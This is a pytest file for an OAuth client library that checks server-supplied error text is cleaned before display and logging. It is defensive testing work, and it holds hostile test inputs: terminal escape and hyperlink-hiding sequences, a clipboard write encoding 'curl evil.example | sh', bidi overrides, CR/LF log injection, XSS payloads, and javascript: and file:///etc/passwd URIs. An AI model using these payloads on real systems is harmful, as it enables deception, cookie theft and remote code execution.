"""Display safety: server text is attacker-controlled; what a person sees must be clean.

What a person sees: ``str(err)``, ``err.args``, ``err.hint``, ``err.safe_description``,
``err.link``, the command line's text output, log lines, and ``repr(err)`` (which escapes).
What a program reads keeps the raw value: ``err.description``, ``err.uri``, ``err.params``,
and ``to_dict()`` (whose JSON escapes control characters).

Attacks covered, each named in its test: terminal escapes (CVE-2021-25743-style
``ESC[2J`` screen clearing, OSC 8 hyperlinks that hide their target, OSC title/clipboard
writes), bidi overrides (CVE-2021-42574 "Trojan Source"), zero-width and other invisible
characters (homoglyph and ASCII-smuggling tricks), CR/LF log injection (CWE-117), HTML in
``error_description``, and ``error_uri`` values that must not become clickable links.
"""

from __future__ import annotations

import contextlib
import io
import json
import logging
import re
import traceback
import urllib.parse
from typing import Any

import pytest

from oauth_client_errors import (
    SKIP_STATE_CHECK,
    InsufficientScopeError,
    InvalidGrantError,
    OAuthError,
    parse_redirect,
    parse_response,
)
from oauth_client_errors._cli import main as cli_main
from oauth_client_errors._cli import render
from oauth_client_errors._ground.sanitize import MAX_DISPLAY, display_text, safe_link

# Never shown to a person: C0/C1 controls (ESC, CR, LF, NUL, BEL, NEL...), DEL, bidi
# embeddings/overrides/isolates/marks, zero-width characters, line/paragraph separators,
# BOM, soft hyphen, tag characters, lone surrogates.
UNSAFE = re.compile(
    "[\x00-\x1f\x7f-\x9f\xad\u034f\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u2069"
    "\ufeff\ufff9-\ufffb\U000e0000-\U000e007f\ud800-\udfff]"
)

ATTACKS: dict[str, str] = {
    "clear screen (ESC[2J)": "\x1b[2J\x1b[HAll good, nothing to see",
    "CSI colour and cursor": "\x1b[31mred\x1b[0m \x1b[1A\x1b[2Kover-written line",
    "CSI with params and intermediates": "\x1b[38;2;255;0;0mx\x1b[?25l\x1b[6n",
    "OSC 8 hyperlink (hidden target)": "\x1b]8;;http://evil.example/\x1b\\click here\x1b]8;;\x1b\\",
    "OSC 8 with BEL terminator": "\x1b]8;;http://evil.example/\x07click\x1b]8;;\x07",
    "OSC window title": "\x1b]0;pwned\x07title",
    "OSC 52 clipboard write": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07copied",
    "8-bit CSI and OSC": "\x9b2J\x9d8;;http://evil\x9cx",
    "unterminated OSC": "before\x1b]8;;http://evil.example/ and the rest",
    "lone ESC at the end": "text\x1b",
    "bidi override (Trojan Source)": "access \u202egnp.exe\u202c denied",
    "bidi isolates": "\u2066admin\u2069 \u2067x\u2069 \u2068y\u2069",
    "bidi marks and embeddings": "\u200e\u200f\u202a\u202b\u202d\u061cz",
    "zero-width characters": "in\u200bvis\u200cible\u200d\u2060\ufeff",
    "tag characters (ASCII smuggling)": "hi\U000e0049\U000e0047\U000e004e there",
    "soft hyphen and CGJ": "pay\xadpal\u034f",
    "CR/LF log injection": "bad grant\r\n2024-01-01 INFO user=admin logged in\r\n",
    "NEL and line separators": "a\x85b\u2028c\u2029d",
    "NUL and BEL": "a\x00b\x07c\x08d",
    "lone surrogate": "x\ud800y\udfffz",
    "HTML in description": "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>",
}


def assert_clean(what: str, text: Any, limit: int | None = None) -> None:
    assert isinstance(text, str), what
    found = UNSAFE.search(text)
    assert found is None, f"{what} shows {found.group()!r}: {text!r}"
    if limit is not None:
        assert len(text) <= limit, f"{what} is {len(text)} characters long"


def assert_person_view_clean(err: OAuthError) -> None:
    assert_clean("str(err)", str(err), 1500)
    for arg in err.args:
        assert_clean("err.args", arg, 1500)
    assert_clean("err.hint", err.hint, 700)
    if err.safe_description is not None:
        assert_clean("err.safe_description", err.safe_description, MAX_DISPLAY)
    assert_clean("repr(err)", repr(err), 1500)  # escaped, not raw
    assert_clean("render(err)", render(err).replace("\n", " "))
    assert err.link is None or err.link == err.uri


def errors_for(description: str) -> list[OAuthError]:
    """The same hostile description through every transport."""
    json_body = json.dumps({"error": "invalid_grant", "error_description": description})
    pairs = {"error": "invalid_grant", "error_description": description}
    form_body = urllib.parse.urlencode(pairs, errors="surrogatepass")
    quoted = description.replace("\\", "\\\\").replace('"', '\\"')
    challenge = f'Bearer error="insufficient_scope", scope="a b", error_description="{quoted}"'
    query = urllib.parse.urlencode(
        {"error": "access_denied", "error_description": description}, errors="surrogatepass"
    )
    found = [
        parse_response(400, {"Content-Type": "application/json"}, json_body.encode()),
        parse_response(400, {"Content-Type": "application/json"}, json_body),
        parse_response(400, {"Content-Type": "application/x-www-form-urlencoded"}, form_body),
        parse_response(403, [("WWW-Authenticate", challenge)], None, endpoint="resource"),
        parse_redirect("https://app.example/cb?" + query, expected_state=SKIP_STATE_CHECK),
        parse_redirect("https://app.example/cb#" + query, expected_state=SKIP_STATE_CHECK),
    ]
    assert all(isinstance(err, OAuthError) for err in found)
    return [err for err in found if err is not None]


@pytest.mark.parametrize("attack", list(ATTACKS))
def test_what_a_person_sees_is_clean(attack: str) -> None:
    for err in errors_for(ATTACKS[attack]):
        assert_person_view_clean(err)


@pytest.mark.parametrize("attack", list(ATTACKS))
def test_raw_value_stays_for_programs(attack: str) -> None:
    description = ATTACKS[attack]
    err = parse_response(
        400,
        {"Content-Type": "application/json"},
        json.dumps({"error": "invalid_grant", "error_description": description}),
    )
    assert isinstance(err, InvalidGrantError)
    assert err.description == description
    assert err.params["error_description"] == description
    data = err.to_dict()
    assert data["description"] == description
    text = json.dumps(data)  # JSON escapes control and non-ASCII characters
    assert_clean("json.dumps(to_dict())", text)
    assert json.loads(text)["description"] == description


def test_escape_sequences_removed_whole_not_just_esc() -> None:
    """Removing only ESC would leave ``[2J`` and the OSC 8 target URL on screen."""
    err = errors_for(ATTACKS["OSC 8 hyperlink (hidden target)"])[0]
    assert err.safe_description == "click here"
    assert "evil" not in str(err)
    err = errors_for(ATTACKS["clear screen (ESC[2J)"])[0]
    assert err.safe_description == "All good, nothing to see"


def test_trojan_source_reads_in_logical_order() -> None:
    err = errors_for(ATTACKS["bidi override (Trojan Source)"])[0]
    assert err.safe_description == "access gnp.exe denied"


def test_crlf_cannot_forge_a_log_line() -> None:
    """CWE-117: the error logged on one line stays one line."""
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(logging.Formatter("%(levelname)s %(message)s"))
    logger = logging.getLogger("test_display_safety.crlf")
    logger.addHandler(handler)
    logger.propagate = False
    try:
        for err in errors_for(ATTACKS["CR/LF log injection"]):
            logger.warning("token request failed: %s", err)
            logger.warning("hint: %s", err.hint)
            logger.warning("%r", err)
    finally:
        logger.removeHandler(handler)
    lines = stream.getvalue().split("\n")
    assert lines[-1] == ""
    assert all(line.startswith("WARNING ") for line in lines[:-1]), lines
    assert not any(line.startswith("2024-01-01") for line in lines)
    for line in lines:
        assert_clean("log line", line)


def test_traceback_of_a_raised_error_is_clean() -> None:
    """An uncaught error prints ``Type: str(err)``: the last line must be clean too."""
    err = errors_for(ATTACKS["clear screen (ESC[2J)"] + ATTACKS["CR/LF log injection"])[0]
    try:
        raise err
    except OAuthError as caught:
        text = "".join(traceback.format_exception(caught))
    last = text.rstrip("\n").split("\n")[-1]
    assert last.startswith("oauth_client_errors.")
    assert_clean("traceback last line", last)


def test_html_is_kept_as_inert_text() -> None:
    """HTML in error_description is text, not markup: shown literally (a page escapes it),
    on one line, capped; never turned into a link."""
    err = errors_for(ATTACKS["HTML in description"])[0]
    assert err.safe_description is not None
    assert err.safe_description.startswith("<script>alert(document.cookie)</script>")
    assert err.link is None
    assert "<script>" not in err.hint


def test_long_description_is_capped_everywhere_a_person_looks() -> None:
    description = ("\u202eA" * 50_000) + ("B" * 500_000)  # under the 1 MiB body cap
    for err in errors_for(description[:6_000]):
        assert_person_view_clean(err)
        assert len(err.safe_description or "") <= MAX_DISPLAY
        assert len(str(err)) < 1500 and len(repr(err)) < 1500
    err = parse_response(400, {}, json.dumps({"error": "x", "error_description": description}))
    assert err is not None and len(err.description or "") == len(description)  # raw, whole
    assert len(str(err)) < 1500


def test_hostile_error_code_is_clean_in_display_and_escaped_in_repr() -> None:
    code = "invalid_grant\x1b[2J\u202e\r\nX"
    err = parse_response(400, {}, json.dumps({"error": code}))
    assert err is not None
    assert err.code == code
    assert_person_view_clean(err)
    assert "\\x1b" in repr(err) and "\\u202e" in repr(err)  # escaped, visible to a developer


def test_hostile_scope_in_the_hint() -> None:
    """The hint is filled in with what the server sent: that text is neutralised too."""
    challenge = 'Bearer error="insufficient_scope", scope="read \x1b]8;;http://evil\x07write\u202e"'
    err = parse_response(403, [("WWW-Authenticate", challenge)], None, endpoint="resource")
    assert isinstance(err, InsufficientScopeError)
    assert_person_view_clean(err)
    assert "read" in err.hint


@pytest.mark.parametrize(
    "uri",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "vbscript:msgbox(1)",
        "file:///etc/passwd",
        "http://as.example/errors/1",  # not https
        "https://user:pw@as.example/errors/1",  # userinfo
        "https://as.example@evil.example/",  # userinfo that looks like the host
        "https://user@as.example/",
        "/errors/1",  # relative
        "errors/1",
        "//evil.example/errors",  # protocol-relative
        "https:evil.example",  # no authority
        "https:///errors",
        "https://",
        "https://as.example/\u202eexe.html",
        "https://as.example/\r\nSet-Cookie: x=1",
        "https://as.example/ x",
        "https://as.ex\x00ample/",
        "https://аs.example/",  # Cyrillic а: a homograph of as.example
        "https://as.example:99999/",
        "https://[::1/",
        "https://as.example/" + "a" * 3000,
        "",
    ],
)
def test_unsafe_error_uri_is_never_a_link(uri: str) -> None:
    body = json.dumps({"error": "invalid_grant", "error_uri": uri})
    err = parse_response(400, {"Content-Type": "application/json"}, body)
    assert err is not None
    assert err.link is None
    assert safe_link(uri) is None
    assert err.uri == uri  # raw for programs
    out = io.StringIO()
    assert cli_main(["explain", body], stdout=out) == 0
    text = out.getvalue()
    if uri.strip():
        assert "Error page: (not shown" in text
    if "evil" in uri or "javascript" in uri.lower():
        assert uri.strip() not in text
    for line in text.splitlines():
        assert_clean("CLI line", line)


@pytest.mark.parametrize(
    "uri",
    [
        "https://as.example/errors/invalid_grant",
        "https://login.microsoftonline.com/error?code=70008",
        "HTTPS://as.example/errors#x",
        "https://as.example:8443/e?a=1&b=2",
        "https://xn--e1afmkfd.xn--p1ai/errors",
    ],
)
def test_safe_error_uri_is_offered_as_a_link(uri: str) -> None:
    body = json.dumps({"error": "invalid_grant", "error_uri": uri})
    err = parse_response(400, {"Content-Type": "application/json"}, body)
    assert err is not None and err.link == uri
    out = io.StringIO()
    assert cli_main(["explain", body], stdout=out) == 0
    assert f"Error page: {uri}" in out.getvalue()


@pytest.mark.parametrize("attack", list(ATTACKS))
@pytest.mark.parametrize("as_json", [False, True])
def test_cli_output_is_clean(attack: str, as_json: bool) -> None:
    description = ATTACKS[attack]
    inputs = [
        json.dumps({"error": "invalid_grant", "error_description": description}),
        "https://app.example/cb?"
        + urllib.parse.urlencode(
            {"error": "access_denied", "error_description": description}, errors="surrogatepass"
        ),
    ]
    for arg in inputs:
        out, err_out = io.StringIO(), io.StringIO()
        argv = ["explain", arg] + (["--json"] if as_json else [])
        with contextlib.redirect_stderr(err_out):
            assert cli_main(argv, stdout=out) == 0
        text = out.getvalue()
        for line in (text + err_out.getvalue()).splitlines():
            assert_clean("CLI line", line, 1000)
        if as_json and not re.search("[\ud800-\udfff]", description):
            assert json.loads(text)["description"] == description  # raw, JSON-escaped


def test_cli_stdin_raw_response_is_clean() -> None:
    raw = (
        b"HTTP/1.1 401 Unauthorized\r\n"
        b'WWW-Authenticate: Bearer error="invalid_token", '
        b'error_description="\x1b[2J\xe2\x80\xaeboo"\r\n'
        b"Content-Type: text/html\r\n\r\n<html>\x1b]0;title\x07</html>"
    )
    out = io.StringIO()
    assert cli_main(["explain", "-"], stdin=io.BytesIO(raw), stdout=out) == 0
    for line in out.getvalue().splitlines():
        assert_clean("CLI line", line, 1000)
    assert "boo" in out.getvalue()


def test_cli_refusals_do_not_echo_server_text(capsys: pytest.CaptureFixture[str]) -> None:
    url = "https://app.example/cb?error=x&state=\x1b[2Jforged"
    out = io.StringIO()
    assert cli_main(["explain", url, "--state", "real"], stdout=out) == 3
    assert "state" in out.getvalue()
    assert "forged" not in out.getvalue().replace("may be forged", "")
    assert_clean("stdout", out.getvalue().replace("\n", " "))
    out = io.StringIO()
    assert cli_main(["codes", "\x1b[2Jnope\u202e"], stdout=out) == 1
    assert_clean("stdout", out.getvalue().replace("\n", " "))
    assert_clean("stderr", capsys.readouterr().err.replace("\n", " "))


@pytest.mark.parametrize("attack", list(ATTACKS))
def test_display_text_directly(attack: str) -> None:
    shown = display_text(ATTACKS[attack])
    assert_clean("display_text", shown, MAX_DISPLAY)
    assert shown == shown.strip()


def test_parser_logs_are_clean(caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.DEBUG)
    for attack in ATTACKS.values():
        errors_for(attack)
    for record in caplog.records:
        assert_clean("log record", record.getMessage())
